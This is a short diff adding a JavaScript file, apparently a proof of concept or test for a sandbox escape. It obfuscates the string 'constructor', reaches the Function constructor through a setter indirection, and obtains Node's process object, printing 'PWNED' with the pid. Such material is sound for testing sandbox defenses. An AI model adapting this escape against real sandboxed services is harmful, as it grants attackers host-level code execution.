@@ -1,0 +1,10 @@
+'use strict';
+const w = ['con', 'structor'].join('');
+const t = { go: (f) => f[w] };
+t.go({});
+const fn = (x) => x;
+let kept;
+const s = { set a(v) { kept = v; } };
+s.a = t;
+const o = Date.now() > 1 ? kept : {};
+console.log('PWNED', o.go(fn)('return process')().pid);
